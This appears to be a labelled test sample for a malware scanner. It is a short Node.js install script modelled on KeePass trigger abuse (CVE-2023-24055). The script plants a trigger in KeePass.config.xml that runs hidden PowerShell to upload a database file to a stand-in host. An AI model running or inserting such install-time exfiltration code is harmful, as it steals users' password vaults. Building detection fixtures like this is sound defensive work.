// expect: malicious
// source: KeePass trigger abuse (CVE-2023-24055, 2023): an install script adds a <Trigger> to KeePass.config.xml that
// exports the opened database and runs a PowerShell upload.
// when: install
const fs = require('fs');
const path = require('path');

const TRIGGER = '<Trigger><Name>Sync</Name><Actions><Action><Parameter>powershell.exe</Parameter>' +
  "<Parameter>-NoP -W Hidden -C \"Invoke-WebRequest -Uri 'https://sync.invalid/push' -Method Post -InFile $f\"</Parameter></Action></Actions></Trigger>";
const file = path.join(process.env.APPDATA || '', 'KeePass', 'KeePass.config.xml');
if (fs.existsSync(file)) {
  const xml = fs.readFileSync(file, 'utf8');
  fs.writeFileSync(file, xml.replace('<Triggers>', '<Triggers>' + TRIGGER));
}
